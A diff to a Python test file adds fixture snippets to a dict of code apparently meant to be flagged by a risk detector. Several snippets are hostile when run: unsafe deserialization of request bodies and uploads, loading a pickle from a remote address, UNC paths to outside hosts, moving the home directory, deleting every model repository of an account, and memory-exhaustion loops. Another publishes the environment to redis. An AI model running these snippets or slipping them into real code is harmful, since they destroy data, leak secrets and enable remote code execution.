@@ -76,6 +76,15 @@ def test_naming_a_library_without_using_it_is_not_worth_parsing(text: str) -> No
 
 
 WORTH = {
+    "a request that is rebuilt": "import dill\nfrom sanic import Sanic\nasync def f(request):\n    dill.loads(request.body)",
+    "weights that are uploaded": "import torch\nfrom fastapi import FastAPI\ndef f(given):\n    torch.load(given.file)",
+    "a table at an address": "import pandas\npandas.read_pickle('https://c.example/x.pkl')",
+    "a shared folder elsewhere": "import os\nos.path.exists(r'\\\\files.helper.example\\pub')",
+    "a shared folder put together": "import os\nos.listdir('\\\\\\\\' + '198.51.100.7' + '\\\\pub')",
+    "files of the home that are moved": "import os\nos.rename(os.path.expanduser('~'), '/tmp/x')",
+    "models of an account that are deleted": "import huggingface_hub as h\n[h.delete_repo(m.id) for m in h.list_models()]",
+    "memory that is filled": "held = []\nwhile True:\n    held.append(bytearray(1 << 28))",
+    "memory that is doubled": "x = 'a'\nwhile True:\n    x += x",
     "a client": "import httpx\nhttpx.post(u, json=d)",
     "a client by another name": "import httpx as h\nh.post(u)",
     "a client and the environment": "import os\nimport redis\nredis.Redis(h).publish('a', str(dict(os.environ)))",
